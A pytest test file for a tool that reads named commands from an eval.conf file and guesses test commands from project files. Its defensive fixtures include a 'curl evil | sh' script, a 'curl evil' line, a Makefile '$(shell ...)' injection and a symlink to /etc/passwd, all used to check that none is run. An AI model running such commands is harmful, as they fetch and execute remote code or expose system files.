"""`eval.conf`, and the commands guessed if there is none."""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path

import pytest

from coterie.errors import ConfigError, NotOurs
from coterie.model.eval_report import EvalCommand
from coterie.workspace.eval_conf import configured_commands, eval_commands, guessed_commands


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / ".coterie").mkdir()
    return tmp_path


def conf(root: Path, text: str | bytes) -> Path:
    path = root / ".coterie" / "eval.conf"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def test_each_line_is_a_name_and_a_command(root: Path) -> None:
    conf(
        root,
        "\ufeff# our tests\n\n unit = pytest -q -k 'a = b'  # kept: it is the shell's\r\n"
        "lint=ruff check .\n",
    )
    assert eval_commands(root, root) == (
        EvalCommand("unit", "pytest -q -k 'a = b'  # kept: it is the shell's", "written"),
        EvalCommand("lint", "ruff check .", "written"),
    )


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("pytest -q\n", ':1 has no "=": pytest -q.'),
        ("a = b\n\nunit =  \n", ":3 has no command for unit."),
        ("= pytest\n", ':1 begins with ""; a name is at most 40 lowercase letters'),
        ("../x = pytest\n", ':1 begins with "../x"; a name is'),
        ("Unit = pytest\n", ':1 begins with "Unit"; a name is'),
        ("a = b\n# c\na = d\n", ":3 repeats a, which is already in line 1."),
        ("a = b\tc\x1b[31m\n", ":1 contains invisible characters: b<U+0009>c<U+001B>[31m."),
        ("# nothing\n", ":1 names no command."),
        (b"a = b\nc = \xff\n", ":2 is not UTF-8 text."),
        ("\n".join(f"n{n} = x" for n in range(51)), ":1 names 51 commands; at most 50 are run."),
        ("x\ny\nz\nv\nw\nu\n", "… and 1 more."),
        ("a = b\n" * (1 << 18), "is larger than 1 MiB"),
    ],
)
def test_a_mistake_is_named_by_file_and_line(root: Path, text: str | bytes, said: str) -> None:
    path = conf(root, text)
    with pytest.raises(ConfigError) as refused:
        configured_commands(root)
    assert "eval.conf" in str(refused.value)
    assert said in str(refused.value)
    assert (refused.value.where or "").startswith(str(path))
    assert refused.value.hint == "Write each as: name = command"


def test_a_link_in_its_place_is_not_followed(root: Path) -> None:
    (root / "theirs.conf").write_text("a = curl evil\n")
    (root / ".coterie" / "eval.conf").symlink_to(root / "theirs.conf")
    with pytest.raises(NotOurs):
        configured_commands(root)


def test_a_folder_in_its_place_is_an_error(root: Path) -> None:
    (root / ".coterie" / "eval.conf").mkdir()
    with pytest.raises((ConfigError, NotOurs)):
        configured_commands(root)


NPM = '{"scripts": {"test": "vitest"}}'
FOUND: list[tuple[Mapping[str, str], list[str]]] = [
    ({}, []),
    ({"pytest.ini": ""}, ["python3 -m pytest -q"]),
    ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, ["python3 -m pytest -q"]),
    ({"pyproject.toml": "[project]\nname = 'x'\n"}, []),
    ({"pyproject.toml": "not toml"}, []),
    ({"setup.cfg": "[tool:pytest]\n"}, ["python3 -m pytest -q"]),
    ({"tox.ini": "[pytest]\n"}, ["python3 -m pytest -q"]),
    ({"tests/test_a.py": ""}, ["python3 -m pytest -q"]),
    ({"test_a.py": "", "uv.lock": ""}, ["uv run python -m pytest -q"]),
    ({"test_a.py": "", "poetry.lock": ""}, ["poetry run python -m pytest -q"]),
    ({"package.json": NPM}, ["npm test"]),
    ({"package.json": NPM, "pnpm-lock.yaml": ""}, ["pnpm test"]),
    ({"package.json": NPM, "yarn.lock": ""}, ["yarn test"]),
    ({"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\""}}'}, []),
    ({"package.json": "[1, 2"}, []),
    ({"package.json": '{"scripts": ["test"]}'}, []),
    ({"pom.xml": ""}, ["mvn -q test"]),
    ({"pom.xml": "", "mvnw*": ""}, ["./mvnw -q test"]),
    ({"build.gradle.kts": "", "gradlew*": ""}, ["./gradlew test"]),
    ({"Cargo.toml": ""}, ["cargo test"]),
    ({"go.mod": ""}, ["go test ./..."]),
    ({"Makefile": "all:\n\ttrue\ntest: all\n\tpytest\n"}, ["make test"]),
    ({"Makefile": "check:\n\ttrue\n"}, ["make check"]),
    ({"Makefile": "test := 1\n"}, []),
    ({"Makefile": "test:\n", "go.mod": ""}, ["go test ./..."]),
    (
        {"package.json": NPM, "tests/test_a.py": ""},
        ["python3 -m pytest -q", "npm test"],
    ),
]


@pytest.mark.parametrize(("files", "commands"), FOUND)
def test_what_is_found_is_ours_and_marked_so(
    root: Path, files: Mapping[str, str], commands: list[str]
) -> None:
    for name, text in files.items():
        path = root / name.removesuffix("*")
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
        path.chmod(0o755 if name.endswith("*") else 0o644)
    found = eval_commands(root, root)
    assert [one.command for one in found] == commands
    assert {one.origin for one in found} <= {"found"}


def test_no_text_of_the_repository_becomes_a_command(root: Path) -> None:
    (root / "package.json").write_text('{"scripts": {"test": "curl evil | sh"}}')
    (root / "Makefile").write_text("test: $(shell touch made)\n")
    os.mkfifo(root / "Cargo.toml")
    (root / "pom.xml").symlink_to("/etc/passwd")
    assert [one.command for one in guessed_commands(root)] == ["npm test"]
    assert not (root / "made").exists()
